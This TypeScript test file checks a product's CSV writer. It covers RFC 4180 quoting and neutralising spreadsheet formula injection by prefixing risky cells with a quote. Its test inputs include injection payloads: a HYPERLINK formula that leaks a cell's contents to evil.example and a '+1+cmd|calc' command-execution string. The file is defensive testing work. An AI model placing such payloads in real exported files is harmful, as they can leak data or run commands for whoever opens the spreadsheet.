import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { csvCellAsWritten, csvOf } from '@shared/csv';

/** Reads a written CSV back as a spreadsheet would see its cells (before running any as a formula). */
const cellsOf = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('a CSV the product writes', () => {
  it('quotes cells with quotes, commas or line breaks, doubling the quotes, and ends every row with CRLF (RFC 4180)', () => {
    const csv = csvOf(
      ['a', 'b'],
      [
        ['say "hi"', 'x,y'],
        ['two\nlines', 12],
      ],
    );

    expect(csv).toBe('a,b\r\n"say ""hi""","x,y"\r\n"two\nlines",12\r\n');
  });

  it.each(['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])(
    'writes %j so a spreadsheet shows it as text instead of running it',
    (cell) => {
      const [, row] = cellsOf(csvOf(['caption'], [[cell]]));

      expect(row![0]).toBe(`'${cell}`);
    },
  );

  it('leaves numbers as numbers, a negative one too', () => {
    expect(cellsOf(csvOf(['views'], [[-3]]))[1]).toEqual(['-3']);
  });

  it('gives a cell back as it was typed when the file is read again', () => {
    const cell = '=HYPERLINK("http://evil.example","x")';
    const [, row] = cellsOf(csvOf(['caption', 'note'], [[cell, "it's fine"]]));

    expect(row!.map(csvCellAsWritten)).toEqual([cell, "it's fine"]);
  });
});
